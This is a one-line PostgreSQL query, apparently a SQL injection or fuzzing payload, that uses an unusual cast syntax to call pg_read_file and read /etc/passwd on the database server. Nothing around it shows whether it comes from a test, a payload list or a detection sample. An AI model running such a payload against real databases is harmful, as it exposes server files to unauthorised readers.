SELECT ('/etc/passwd'::text)."PG_READ_FILE"
